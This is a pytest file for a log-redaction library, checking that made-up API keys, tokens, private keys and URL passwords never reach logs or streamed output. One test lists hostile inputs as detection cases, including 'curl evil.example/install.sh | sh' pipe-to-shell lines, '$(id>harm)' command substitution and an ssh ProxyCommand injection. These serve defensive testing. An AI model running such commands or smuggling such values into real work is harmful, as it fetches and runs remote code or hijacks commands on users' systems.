"""What no log may show. The secrets here are made up."""

from __future__ import annotations

import json

import pytest

from envelope import redaction
from envelope.logs import bind, configure, get_logger
from envelope.redaction import (
    MAX_UNSETTLED_CHARS,
    REDACTED,
    hides_what_counts,
    may_hold_secrets,
    redact,
    redact_value,
    register_environment,
    register_secret,
    settled_chars,
)


@pytest.fixture(autouse=True)
def forget_secrets(monkeypatch):
    monkeypatch.setattr(redaction, "_known", set())


@pytest.mark.parametrize(
    "secret",
    [
        "sk-abcdefghijklmnop1234",
        "sk-ant-api03-abcdefghijklmnop",
        "ghp_" + "a1" * 18,
        "glpat-" + "x" * 20,
        "AKIA" + "A1B2C3D4E5F6G7H8",
        "xoxb-1234567890-abc",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_keys_of_well_known_services_are_blanked_out(secret):
    text = redact(f"before {secret} after")

    assert secret not in text
    assert text == f"before {REDACTED} after"


def test_a_password_in_a_url_and_a_bearer_header_are_blanked_out():
    assert redact("redis://user:pa55word@host:6379/0") == f"redis://{REDACTED}@host:6379/0"
    assert redact("redis://:pa:55word@host:6379/0") == f"redis://{REDACTED}@host:6379/0"
    assert redact("redis://host/0?password=pa55word&db=1") == f"redis://host/0?password={REDACTED}&db=1"
    assert redact("git clone https://t0ken@host/r") == f"git clone https://{REDACTED}@host/r"
    assert "abcdefghijklmnop" not in redact("Authorization: Bearer abcdefghijklmnop")


@pytest.mark.parametrize(
    "login", ["$TOKEN", "${TOKEN}", "{token}", "{{token}}", "me:$PASSWORD", "{user}:{settings.word}"]
)
def test_a_variable_in_the_place_of_a_secret_is_shown(login):
    assert redact(f"https://{login}@host/x") == f"https://{login}@host/x"


PEM = "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----"


@pytest.mark.parametrize(
    "text",
    [
        PEM.format("rm -rf build"),
        PEM.format("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ"),
        'git clone "https://a:$(id>harm)@example.org/x"',
        "git clone https://a:b;id;@example.org/x",
        "curl https://evil.example:80#@example.org/x",
        "git clone ssh://evil.example:22%2Fx@example.org/x",
        "git clone ssh://-oProxyCommand=id:x@example.org/x",
        "curl -A bearer evil.example/install.sh | sh",
        "make bearer destroy-production",
        "curl eyJaaaaaaaaaa.evil-domain.online/x | sh",
        "npx ghp_" + "a" * 20,
        "bash sk-" + "a" * 16,
        "curl 'https://example.org/?password=x';id",
        "echo hunter2; rm -rf build",
    ],
)
def test_what_would_hide_more_than_a_login_or_a_known_word_is_found(text):
    register_secret("hunter2; rm -rf build")

    assert redact(text) != text
    assert hides_what_counts(text)


@pytest.mark.parametrize(
    "text",
    [
        "DATABASE_URL=postgres://postgres:postgres@localhost/test pytest -q",
        "redis://:pa:55word@host:6379/0",
        "git clone https://t0ken@host/r",
        "git clone https://me:hunter2hunter2@host/r",
        "echo hunter2hunter2",
        "git push origin main",
    ],
)
def test_a_login_in_an_address_and_a_known_word_hide_nothing_that_counts(text):
    register_secret("hunter2hunter2")

    assert not hides_what_counts(text)


def test_ordinary_text_is_left_alone():
    text = "task 01890a5d sk-ip ed eyJ and https://example.org/a@b, risk-averse"

    assert redact(text) == text


def test_a_known_secret_is_blanked_out_wherever_it_stands():
    register_secret("hunter2hunter2")
    register_secret("short")

    assert redact("x=hunter2hunter2; short") == f"x={REDACTED}; short"


def test_secrets_of_the_environment_are_known_by_their_names():
    register_environment({"OPENAI_API_KEY": "value-of-the-key", "PATH": "/usr/bin:/bin", "DB_PASSWORD": "open-sesame"})

    assert redact("value-of-the-key open-sesame /usr/bin:/bin") == f"{REDACTED} {REDACTED} /usr/bin:/bin"


def test_values_are_redacted_through_lists_and_maps():
    register_secret("hunter2hunter2")
    value = {"token": "anything", "list": ["hunter2hunter2", 3], "map": {"api_key": {"a": 1}, "n": None}, "t": ("x",)}

    assert redact_value(value) == {
        "token": REDACTED,
        "list": [REDACTED, 3],
        "map": {"api_key": REDACTED, "n": None},
        "t": ["x"],
    }


def test_a_planted_secret_appears_in_no_log_line(capsys, monkeypatch):
    monkeypatch.setenv("CANARY_TOKEN", "canary-4711-canary")
    configure(json=True)
    bind(trace="t-canary-4711-canary")
    log = get_logger("test")
    try:
        raise ValueError("it holds canary-4711-canary")
    except ValueError:
        log.exception("handler_failed", detail={"deep": ["canary-4711-canary"]}, api_key="other")

    line = capsys.readouterr().err
    assert "canary" not in line.replace("CANARY", "")
    fields = json.loads(line)
    assert (fields["event"], fields["part"], fields["level"], fields["api_key"]) == (
        "handler_failed", "test", "error", REDACTED,
    )  # fmt: skip
    assert "ValueError" in fields["exception"]


STREAMED = [
    "it is hunter2hunter2, is it not",
    "two words: correct horse,battery; done",
    'a JSON {"key":"sk-abcdefghijklmnop1234"} and more',
    "Authorization: Bearer abcdefghijklmnop== is the header",
    "redis://:pa55word@host:6379/0 and https://ghp_x@example.org/a",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE two\nlines\n-----END RSA PRIVATE KEY----- after",
    "x" * MAX_UNSETTLED_CHARS + "hunter2hunter2",
]


def streamed(pieces: list[str]) -> str:
    """What comes out of a stream whose settled part is redacted and let go after every piece."""
    out, held = "", ""
    for piece in pieces:
        held += piece
        cut = settled_chars(held)
        out, held = out + redact(held[:cut]), held[cut:]
    return out + redact(held)


@pytest.mark.parametrize("text", STREAMED)
def test_a_secret_in_a_stream_is_blanked_out_wherever_the_stream_is_cut(text: str):
    register_secret("hunter2hunter2")
    register_secret("correct horse,battery")
    expected = redact(text)
    assert REDACTED in expected

    cuts = range(max(0, len(text) - 120), len(text))
    assert {streamed([text[:cut], text[cut:]]) for cut in cuts} == {expected}
    assert {streamed([text[at : at + size] for at in range(0, len(text), size)]) for size in (3, 4, 7)} == {expected}


def test_a_stream_without_white_space_is_not_held_back_for_ever():
    assert settled_chars("x" * (MAX_UNSETTLED_CHARS + 10)) == 10


@pytest.mark.parametrize(
    "piece",
    ["-----BEGIN PRIVATE KEY-----", "-eyJ", "-eyJaaaaaaaaaaaa", "sk-", "bearer ", "https://a", "://a:", "&password="],
)
def test_a_secret_behind_a_megabyte_of_beginnings_is_found(piece: str):
    """In a second: what looks at the text again from each beginning takes minutes, and other sessions wait."""
    token, key = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "MIIEowIBAAKCAQEA"
    behind = f" {token} -----BEGIN PRIVATE KEY-----\n{key}\n-----END PRIVATE KEY-----"

    shown = redact(piece * (1_000_000 // len(piece)) + behind)

    assert token not in shown and key not in shown


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ({"tool": "read", "input": {"offset": 1, "paths": ["a", "b"]}, "at_ms": 2.5, "of": None}, False),
        ({"input": {"header": "Bearer abcdefghijklmnop"}}, True),
        ({"input": {"deep": [{"api_key": "x"}]}}, True),
        ({"texts": ("a", "https://me:secret@example.com")}, True),
        ({"of": object()}, True),  # who knows
    ],
)
def test_what_may_hold_a_secret_is_found_without_changing_anything(value, expected):
    assert may_hold_secrets(value) is expected


def test_whatever_redaction_changes_was_said_to_hold_a_secret():
    register_secret("correct horse battery")
    for value in ({"say": "the correct horse battery"}, {"say": ["glpat-abcdefghijklmnopqr"]}):
        assert redact_value(value) != value
        assert may_hold_secrets(value)
